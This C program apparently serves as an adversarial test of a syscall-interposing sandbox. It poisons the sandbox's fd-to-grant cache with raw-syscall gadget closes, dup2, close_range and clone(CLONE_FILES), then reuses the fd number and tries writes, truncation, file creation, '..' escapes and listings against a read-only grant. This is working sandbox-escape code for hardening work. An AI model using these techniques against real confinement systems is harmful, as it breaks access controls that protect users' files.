/* The handler's fd -> grant cache (beneath.rs grant_of_fd, FD_GRANT,
 * FAST_FD_GEN) made stale: a directory fd of the read-write grant is
 * looked at through the gate (learnt as the rw grant's), then closed in a
 * way the handler does not see (a raw close, dup2, dup3 or close_range
 * through ld-preld's `syscall; ret`; a child of clone(CLONE_FILES) without
 * CLONE_VM, whose fd table is this process's and whose memory is not) and
 * its number reused for another object: the read-only grant's directory
 * (opened in the process, or handed out by the server: `//` path), a
 * virtual directory's stand-in (`/`), the session's /proc/self/fd, a pipe.
 * Then, from that number: writes, truncation and creation of the
 * read-only grant's victim, `..` escapes, a listing, readlink of
 * /proc/self/fd/N. A write that lands prints ESCAPE; a listing or a name
 * shows what the program got. */
#include "attack.h"
#include "gadget_scan.h"
#include <dirent.h>
#include <sched.h>
#include <sys/stat.h>
#include <sys/wait.h>

static unsigned long g;
static const char *ro_dir, *rw_dir;

static int reuse(int kind, int want) {
    int fd;
    switch (kind) {
    case 0: fd = open(ro_dir, O_RDONLY | O_DIRECTORY); break;
    case 1: fd = open(cat2("/", ro_dir), O_RDONLY | O_DIRECTORY); break;
    case 2: fd = open("/", O_RDONLY | O_DIRECTORY); break;
    case 3: fd = open("/proc/self/fd", O_RDONLY | O_DIRECTORY); break;
    default: { int p[2]; if (pipe(p)) return -1; fd = p[0]; break; }
    }
    /* Onto `want` where the handler does not see it (its dup2 would count
     * as a close of `want`). */
    if (fd != want && fd >= 0) {
        if (g) call_gadget(g, SYS_dup2, fd, want, 0, 0);
        else dup2(fd, want);
        close(fd);
        fd = want;
    }
    return fd;
}
static const char *kinds[] = { "ro grant dir (in process)", "ro grant dir (server's)", "stand-in of /", "/proc/self/fd", "a pipe" };

/* Closes `fd` behind the handler's back, way `how`. */
static void stale_close(int fd, int how) {
    switch (how) {
    case 0: call_gadget(g, SYS_close, fd, 0, 0, 0); break;
    case 1: { int p[2]; pipe(p); call_gadget(g, SYS_dup2, p[0], fd, 0, 0); close(p[0]); close(p[1]); call_gadget(g, SYS_close, fd, 0, 0, 0); break; }
    case 2: call_gadget(g, SYS_close_range, fd, fd, 0, 0); break;
    default: {
        pid_t c = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
        if (c == 0) { close(fd); _exit(0); }
        waitpid(c, 0, 0);
    }
    }
}
static const char *hows[] = { "gadget close", "gadget dup2+close", "gadget close_range", "clone(CLONE_FILES) child close" };

static void probe(const char *label, int d) {
    struct stat st;
    char l[300];
    /* Learnt as the rw grant's first. */
    snprintf(l, sizeof l, "%s: openat(N, victim, O_WRONLY)", label);
    try_write_ro(l, lc(openat(d, "victim", O_WRONLY)));
    snprintf(l, sizeof l, "%s: openat(N, victim, O_RDWR|O_TRUNC)", label);
    try_write_ro(l, lc(openat(d, "victim", O_RDWR | O_TRUNC)));
    snprintf(l, sizeof l, "%s: openat(N, victim, O_WRONLY|O_APPEND)", label);
    try_write_ro(l, lc(openat(d, "victim", O_WRONLY | O_APPEND)));
    long c = lc(openat(d, "fd_cache_new", O_WRONLY | O_CREAT, 0644));
    printf("%s: openat(N, fd_cache_new, O_CREAT) %ld%s\n", label, c, c >= 0 && faccessat(AT_FDCWD, cat2(ro_dir, "/fd_cache_new"), F_OK, 0) == 0 ? " ESCAPE: created in the ro grant" : "");
    if (c >= 0) close(c);
    printf("%s: fstatat(N, victim) %d, faccessat(N, victim, W_OK) %d\n", label, fstatat(d, "victim", &st, AT_SYMLINK_NOFOLLOW), faccessat(d, "victim", W_OK, 0));
    snprintf(l, sizeof l, "%s: openat(N, ../../../..)", label);
    long up = lc(openat(d, "../../../..", O_RDONLY | O_DIRECTORY));
    printf("%s -> %ld\n", l, up);
    if (up >= 0) close(up);
    char buf[4096];
    long n = syscall(SYS_getdents64, d, buf, sizeof buf);
    printf("%s: getdents64 %ld:", label, n);
    for (long o = 0; n > 0 && o < n;) { struct dirent64 *e = (void *)(buf + o); printf(" %s", e->d_name); o += e->d_reclen; }
    char link[64], name[256] = "";
    snprintf(link, sizeof link, "/proc/self/fd/%d", d);
    long r = readlink(link, name, sizeof name - 1);
    printf("\n%s: readlink %s -> %s\n", label, link, r > 0 ? name : strerror(errno));
    fflush(stdout);
    /* The stale mark handed on: `.` opened beside N with O_DIRECTORY (the
       session open gate's BESIDE path marks the new fd with N's grant),
       then the same from the new fd (session-23b adversary). */
    if (!strstr(label, "(derived)")) {
        int d2 = -1;
        for (int i = 0; i < 4; i++) {
            if (d2 >= 0) close(d2);
            d2 = openat(d, ".", O_RDONLY | O_DIRECTORY);
        }
        if (d2 >= 0) {
            char l2[300];
            snprintf(l2, sizeof l2, "%s (derived)", label);
            probe(l2, d2);
            close(d2);
        } else printf("%s: openat(N, ., O_DIRECTORY) %s\n", label, strerror(errno));
    }
}

int main(int argc, char **argv) {
    ARGS
    ro_dir = ro; rw_dir = rw;
    find_gadgets();
    g = ncand ? cands[0] : 0;
    int fd = 40;
    for (int how = 0; how < 4; how++) {
        if (how < 3 && !g) continue;
        for (int k = 0; k < 5; k++) {
            int d = open(rw, O_RDONLY | O_DIRECTORY);
            dup2(d, fd); close(d);
            struct stat st;
            /* The gate learns fd 40 is the rw grant's (twice: the site is
             * rewritten at its second execution). */
            for (int i = 0; i < 4; i++) fstatat(fd, "x", &st, 0), openat(fd, "nothing", O_RDONLY);
            stale_close(fd, how);
            if (reuse(k, fd) != fd) { printf("reuse %s failed\n", kinds[k]); continue; }
            char label[200];
            snprintf(label, sizeof label, "[%s, then %s]", hows[how], kinds[k]);
            probe(label, fd);
            close(fd);
        }
    }
    return 0;
}
